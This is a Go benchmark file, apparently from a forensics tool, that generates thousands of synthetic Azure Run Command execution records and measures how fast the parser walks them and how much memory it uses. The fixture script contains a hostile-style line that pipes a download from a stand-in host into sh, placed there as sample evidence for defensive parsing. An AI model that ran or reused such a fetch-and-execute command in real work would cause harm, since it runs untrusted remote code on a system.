package extensions

import (
	"context"
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"testing"

	"github.com/Velocidex/ordereddict"
	"github.com/azvql/azvql/plugins/evidence"
)

// genExecTree writes n RC v1 executions (settings, status, script.sh,
// stdout, stderr and one dropped file each) below root.
func genExecTree(tb testing.TB, root string, n int) {
	tb.Helper()
	h := filepath.Join(root, filepath.FromSlash(rc1))
	dl := filepath.Join(root, "var", "lib", "waagent", "run-command", "download")
	for _, d := range []string{filepath.Join(h, "config"), filepath.Join(h, "status")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			tb.Fatal(err)
		}
	}
	must := func(err error) {
		if err != nil {
			tb.Fatal(err)
		}
	}
	must(os.WriteFile(filepath.Join(h, "mrseq"), []byte(fmt.Sprint(n-1)), 0o600))
	script := "#!/bin/sh\ncurl -s https://example.invalid/x.sh | sh\nid\n"
	pub := fmt.Sprintf(`{"script": %q}`, base64.StdEncoding.EncodeToString([]byte(script)))
	for i := 0; i < n; i++ {
		s := fmt.Sprint(i)
		must(os.WriteFile(filepath.Join(h, "config", s+".settings"), []byte(settingsJSON(pub, i%2 == 0)), 0o644))
		must(os.WriteFile(filepath.Join(h, "status", s+".status"), []byte(goStatus("2024-05-02T10:11:15Z", "success", "Enable succeeded: \n[stdout]\nuid=0(root)\n\n[stderr]\n")), 0o644))
		d := filepath.Join(dl, s)
		must(os.MkdirAll(d, 0o700))
		must(os.WriteFile(filepath.Join(d, "script.sh"), []byte(script), 0o500))
		must(os.WriteFile(filepath.Join(d, "stdout"), []byte("uid=0(root) gid=0(root) groups=0(root)\n"), 0o600))
		must(os.WriteFile(filepath.Join(d, "stderr"), nil, 0o600))
		must(os.WriteFile(filepath.Join(d, "x.sh"), []byte("echo dropped\n"), 0o500))
	}
}

// BenchmarkExecutionsWalk walks a tree of 10,000 executions end to end
// (listing, reading, parsing, hashing, redaction, row building). Budget
// (DESIGN.md): under 2 s per walk, memory flat in the number of files.
// Metrics: rows/s, the peak heap in use during the walk (garbage
// included) and the live heap per execution halfway through the walk
// (the index of names and paths; contents are never accumulated).
func BenchmarkExecutionsWalk(b *testing.B) {
	for _, n := range []int{1000, 10000} {
		b.Run(fmt.Sprintf("n=%d", n), func(b *testing.B) {
			root := b.TempDir()
			genExecTree(b, root, n)
			acc, _ := evidence.Get(nil, "file")
			b.ReportAllocs()
			b.ResetTimer()
			var peak, live uint64
			var ms runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&ms)
			base := ms.HeapAlloc
			for i := 0; i < b.N; i++ {
				r := evidence.NewRoot(acc, root)
				rows := 0
				WalkExecutions(context.Background(), r, true, func(f string, a ...any) { b.Fatalf(f, a...) }, func(*ordereddict.Dict) bool {
					rows++
					if rows%1000 == 0 {
						runtime.ReadMemStats(&ms)
						if ms.HeapInuse > peak {
							peak = ms.HeapInuse
						}
					}
					if i == 0 && rows == n/2 {
						// What the walk keeps alive: its index, not contents.
						b.StopTimer()
						runtime.GC()
						runtime.ReadMemStats(&ms)
						live = ms.HeapAlloc - base
						b.StartTimer()
					}
					return true
				})
				if rows != n {
					b.Fatalf("rows %d, want %d", rows, n)
				}
			}
			b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "rows/s")
			b.ReportMetric(float64(peak)/(1<<20), "peak-heap-MB")
			b.ReportMetric(float64(live)/float64(n), "live-B/exec")
		})
	}
}
